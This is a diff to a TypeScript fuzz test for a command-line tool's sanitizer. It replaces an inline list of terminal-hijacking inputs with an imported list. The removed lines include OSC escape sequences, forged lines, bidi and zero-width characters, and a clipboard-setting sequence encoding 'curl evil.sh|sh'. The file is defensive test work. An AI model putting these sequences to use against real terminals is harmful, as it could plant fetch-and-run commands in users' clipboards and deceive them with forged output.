@@ -12,6 +12,7 @@ import { main } from '../../src/cli/main.js';
 import { MAX_INPUT_BYTES } from '../../src/input/source.js';
 import { isOurReport } from '../../src/output/report-mark.js';
 import { hasUnsafe } from '../../src/render/sanitize.js';
+import { PAYLOADS } from '../support/hostile.js';
 import { BUILTIN_BANK_PATH, DIR, type Entry, memoryIo, ROOT } from '../support/memory-io.js';
 
 /** A hang is a failure, not a stuck suite. */
@@ -706,27 +707,8 @@ const bankCases: fc.Arbitrary<Case> = fc
 
 // ---- text a terminal would obey: in a bank's words, in file names ---------------------------------
 
-/** Escape sequences and characters that drive or fool a terminal, as a hostile file would carry them. */
-const TERMINAL_TRICKS = [
-  '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007', // OSC 52: sets the clipboard
-  '\u001b]0;title\u001b\\', // OSC 0: the window title
-  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', // OSC 8: a hyperlink
-  '\u001b[2J\u001b[H', // clears the screen
-  '\u001b[31m',
-  '\u001bP1$r\u001b\\', // DCS
-  '\u001b]52;c;unterminated',
-  '\u009b2J', // 8-bit CSI
-  '\u009d0;t\u009c',
-  '\rFORGED', // overwrites the line
-  '\nwho-failed-whom: forged line',
-  '\u202Eevil', // bidi override
-  '\u2066\u2069\u200E\u061C',
-  '\u200B\u200D\u2060\uFEFF', // zero-width
-  '\u2028\u2029\u0085',
-  '\u{E0041}\u{E0042}', // tag characters
-  '\u0007\b\u007F\t',
-  '@dana #12 acme/crm#7 GH-3 &#64;x',
-];
+/** What drives or fools a terminal, as a hostile file would carry it. */
+const TERMINAL_TRICKS = PAYLOADS.map(([, text]) => text);
 const trick = fc.oneof(
   { weight: 3, arbitrary: fc.constantFrom(...TERMINAL_TRICKS) },
   {
